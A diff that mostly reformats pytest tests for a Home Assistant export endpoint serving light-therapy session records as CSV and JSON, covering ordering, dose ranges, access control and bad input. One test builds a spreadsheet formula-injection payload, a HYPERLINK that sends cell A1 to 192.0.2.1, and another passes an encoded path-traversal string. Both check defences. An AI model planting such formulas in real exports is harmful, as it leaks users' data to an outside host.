@@ -32,9 +32,20 @@ async def _server(hass: HomeAssistant) -> None:
     assert await async_setup_component(hass, "http", {})
 
 
-async def give(world: World, *, days_ago: float, program: str = "fine_lines", session_id: str | None = None, modality: Modality = Modality.MASK) -> None:
+async def give(
+    world: World,
+    *,
+    days_ago: float,
+    program: str = "fine_lines",
+    session_id: str | None = None,
+    modality: Modality = Modality.MASK,
+) -> None:
     """Write down a session that is over."""
-    dose = Dose(fluence_j_cm2={Channel.RED: 16.8}) if modality is Modality.MASK else Dose(charge_ma_min=0.98)
+    dose = (
+        Dose(fluence_j_cm2={Channel.RED: 16.8})
+        if modality is Modality.MASK
+        else Dose(charge_ma_min=0.98)
+    )
     record = completed(
         world.person.person_id,
         dt_util.utcnow() - timedelta(days=days_ago),
@@ -52,31 +63,54 @@ async def rows(client: TestClient[Any, Any], **query: str) -> list[dict[str, str
     """Return the rows of the CSV file."""
     response = await client.get(URL, params={"format": "csv", **query})
     assert response.status == 200
-    return list(csv.DictReader(io.StringIO((await response.read()).decode("utf-8-sig"), newline="")))
+    return list(
+        csv.DictReader(io.StringIO((await response.read()).decode("utf-8-sig"), newline=""))
+    )
 
 
-async def test_every_session_is_a_row_the_oldest_first(world: World, hass_client: ClientSessionGenerator) -> None:
+async def test_every_session_is_a_row_the_oldest_first(
+    world: World, hass_client: ClientSessionGenerator
+) -> None:
     await give(world, days_ago=1)
     await give(world, days_ago=3, modality=Modality.WAND)
     client = await hass_client()
     wand, mask = await rows(client)
-    assert (mask["program"], mask["outcome"], mask["device"], mask["counts"]) == ("fine_lines", "completed", "Mask node", "True")
-    assert (float(mask["delivered_at_most_red_j_cm2"]), float(mask["planned_blue_j_cm2"])) == (16.8, 0)
+    assert (mask["program"], mask["outcome"], mask["device"], mask["counts"]) == (
+        "fine_lines",
+        "completed",
+        "Mask node",
+        "True",
+    )
+    assert (float(mask["delivered_at_most_red_j_cm2"]), float(mask["planned_blue_j_cm2"])) == (
+        16.8,
+        0,
+    )
     assert float(wand["delivered_at_least_charge_ma_min"]) == 0.98
     as_json = await (await client.get(URL, params={"format": "json"})).json()
     assert as_json["person"] == "Ada"
-    assert [session["session_id"] for session in as_json["sessions"]] == [wand["session_id"], mask["session_id"]]
+    assert [session["session_id"] for session in as_json["sessions"]] == [
+        wand["session_id"],
+        mask["session_id"],
+    ]
     assert "started_by" not in as_json["sessions"][0]
 
 
-async def test_a_session_that_is_not_settled_is_a_range(world: World, hass_client: ClientSessionGenerator) -> None:
+async def test_a_session_that_is_not_settled_is_a_range(
+    world: World, hass_client: ClientSessionGenerator
+) -> None:
     await world.run()
     [row] = await rows(await hass_client())
     assert row["outcome"] == "uncertain"
-    assert float(row["delivered_at_least_red_j_cm2"]) < float(row["delivered_at_most_red_j_cm2"]) == float(row["planned_red_j_cm2"])
+    assert (
+        float(row["delivered_at_least_red_j_cm2"])
+        < float(row["delivered_at_most_red_j_cm2"])
+        == float(row["planned_red_j_cm2"])
+    )
 
 
-async def test_a_period_begins_and_ends_where_it_is_said(world: World, hass_client: ClientSessionGenerator) -> None:
+async def test_a_period_begins_and_ends_where_it_is_said(
+    world: World, hass_client: ClientSessionGenerator
+) -> None:
     for days_ago in (1, 2, 3, 4):
         await give(world, days_ago=days_ago)
     client = await hass_client()
@@ -88,7 +122,9 @@ async def test_a_period_begins_and_ends_where_it_is_said(world: World, hass_clie
 
 
 @pytest.mark.parametrize("sign", [pytest.param(sign, id=repr(sign)) for sign in FORMULA])
-async def test_no_cell_is_a_formula(world: World, hass_client: ClientSessionGenerator, sign: str) -> None:
+async def test_no_cell_is_a_formula(
+    world: World, hass_client: ClientSessionGenerator, sign: str
+) -> None:
     evil = f'{sign}HYPERLINK("http://192.0.2.1/?"&A1,"click")'
     registry = dr.async_get(world.hass)
     registry.async_update_device(world.device_id, name_by_user=evil)
@@ -101,22 +137,33 @@ async def test_no_cell_is_a_formula(world: World, hass_client: ClientSessionGene
     assert session["program"] == evil  # a program reads it as it is
 
 
-async def test_more_than_a_year_of_two_sessions_a_day(world: World, hass_client: ClientSessionGenerator) -> None:
+async def test_more_than_a_year_of_two_sessions_a_day(
+    world: World, hass_client: ClientSessionGenerator
+) -> None:
     for index in range(SESSIONS):
-        await give(world, days_ago=DAYS * (SESSIONS - index) / SESSIONS, session_id=f"{index + 1:016x}")
+        await give(
+            world, days_ago=DAYS * (SESSIONS - index) / SESSIONS, session_id=f"{index + 1:016x}"
+        )
     client = await hass_client()
     found = await rows(client)
     assert len(found) == SESSIONS
     assert [row["started_at"] for row in found] == sorted(row["started_at"] for row in found)
     assert not [value for row in found for value in row.values() if value.startswith(FORMULA)]
-    assert sum(float(row["delivered_at_most_red_j_cm2"]) for row in found) == pytest.approx(16.8 * SESSIONS)
-    assert len((await (await client.get(URL, params={"format": "json"})).json())["sessions"]) == SESSIONS
+    assert sum(float(row["delivered_at_most_red_j_cm2"]) for row in found) == pytest.approx(
+        16.8 * SESSIONS
+    )
+    assert (
+        len((await (await client.get(URL, params={"format": "json"})).json())["sessions"])
+        == SESSIONS
+    )
 
 
-# --- whose it is -----------------------------------------------------------------------------------------------------------------
+# --- whose it is ----------------------------------------------------------------------------------
 
 
-async def test_nobody_who_is_not_signed_in_reads_anything(world: World, hass_client_no_auth: ClientSessionGenerator) -> None:
+async def test_nobody_who_is_not_signed_in_reads_anything(
+    world: World, hass_client_no_auth: ClientSessionGenerator
+) -> None:
     await give(world, days_ago=1)
     response = await (await hass_client_no_auth()).get(URL)
     assert response.status == 401
@@ -124,7 +171,10 @@ async def test_nobody_who_is_not_signed_in_reads_anything(world: World, hass_cli
 
 
 async def test_only_the_person_and_admins_read_it(
-    world: World, hass_client: ClientSessionGenerator, hass_read_only_access_token: str, hass_read_only_user: MockUser
+    world: World,
+    hass_client: ClientSessionGenerator,
+    hass_read_only_access_token: str,
+    hass_read_only_user: MockUser,
 ) -> None:
     await give(world, days_ago=1)
     other = await hass_client(hass_read_only_access_token)
@@ -132,12 +182,14 @@ async def test_only_the_person_and_admins_read_it(
     assert response.status == 403
     assert b"fine_lines" not in await response.read()
     entry = world.hass.config_entries.async_get_known_entry(world.person.person_id)
-    world.hass.config_entries.async_update_entry(entry, data={**entry.data, CONF_PERSON: "person.ada"})
+    world.hass.config_entries.async_update_entry(
+        entry, data={**entry.data, CONF_PERSON: "person.ada"}
+    )
     world.hass.states.async_set("person.ada", "home", {"user_id": hass_read_only_user.id})
     assert len(await rows(other)) == 1
 
 
-# --- bad input -------------------------------------------------------------------------------------------------------------------
+# --- bad input ------------------------------------------------------------------------------------
 
 
 @pytest.mark.parametrize(
@@ -162,6 +214,8 @@ async def test_a_question_that_makes_no_sense_is_refused_by_its_field(
 
 
 @pytest.mark.parametrize("person", ["Nobody", "..%5c", "x" * 5000, "0"])
-async def test_a_person_who_is_not_there_is_not_found(world: World, hass_client: ClientSessionGenerator, person: str) -> None:
+async def test_a_person_who_is_not_there_is_not_found(
+    world: World, hass_client: ClientSessionGenerator, person: str
+) -> None:
     assert world.state() == "idle"
     assert (await (await hass_client()).get(f"/api/facial_therapy/export/{person}")).status == 404
